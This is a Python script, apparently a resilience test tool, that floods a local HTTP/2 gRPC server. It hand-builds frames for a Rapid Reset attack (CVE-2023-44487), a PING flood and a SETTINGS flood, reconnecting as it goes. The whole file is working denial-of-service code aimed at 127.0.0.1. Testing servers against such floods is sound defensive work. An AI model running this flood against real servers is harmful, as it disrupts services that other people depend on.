"""A client that floods a server with HTTP/2 frames, as a program: MODE PORT SECONDS [CONNECTIONS].

It writes frames by hand, because libraries only send frames of well-behaved clients. It reconnects
when the server closes the connection, and prints how many frames and connections it made.
"""

import json
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS = 4
A_WRITE = 500
CONNECTIONS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


# HPACK: :method POST and :scheme http of the static table, the rest as literals without indexing.
CALL = (
    b"\x83\x86"
    + _literal(b":path", b"/sessiond.v1.SessionService/GetSession")
    + _literal(b":authority", b"localhost")
    + _literal(b"content-type", b"application/grpc")
    + _literal(b"te", b"trailers")
)


def rapid_resets() -> Iterator[bytes]:
    """Yield calls that are reset at once (CVE-2023-44487)."""
    cancelled = (8).to_bytes(4, "big")
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, cancelled)


def pings() -> Iterator[bytes]:
    """Yield pings."""
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings() -> Iterator[bytes]:
    """Yield empty SETTINGS, each of which the server has to acknowledge."""
    while True:
        yield frame(SETTINGS, 0, 0, b"")


MODES: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid_resets": rapid_resets,
    "pings": pings,
    "settings": settings,
}


class Flood:
    """A connection that reconnects whenever the server closes it."""

    def __init__(self, mode: str, port: int) -> None:
        self._frames_of = MODES[mode]
        self._port = port
        self.frames = self.connections = 0
        self._connect()

    def _connect(self) -> None:
        self.socket = socket.create_connection(("127.0.0.1", self._port))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        self.socket.setblocking(False)
        self._frames = self._frames_of()
        self._left = b""
        self.connections += 1

    def advance(self, *, can_read: bool, can_write: bool) -> None:
        """Read what the server has sent, and write more frames."""
        try:
            if can_read and not self.socket.recv(1 << 20):
                raise ConnectionResetError
            if can_write:
                if not self._left:
                    self._left = b"".join(next(self._frames) for _ in range(A_WRITE))
                    self.frames += A_WRITE
                self._left = self._left[self.socket.send(self._left) :]
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self._connect()


def main(mode: str, port: int, seconds: float, connections: int = CONNECTIONS) -> None:
    """Flood a server, and print the numbers of frames and connections."""
    floods = [Flood(mode, port) for _ in range(connections)]
    end = time.monotonic() + seconds
    print("flooding", flush=True)
    while time.monotonic() < end:
        sockets = {flood.socket: flood for flood in floods}
        readable, writable, _ = select.select(list(sockets), list(sockets), [], 0.1)
        for opened, flood in sockets.items():
            flood.advance(can_read=opened in readable, can_write=opened in writable)
    for flood in floods:
        flood.socket.close()
    frames = sum(flood.frames for flood in floods)
    print(json.dumps({"frames": frames, "connections": sum(f.connections for f in floods)}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), *map(int, sys.argv[4:]))
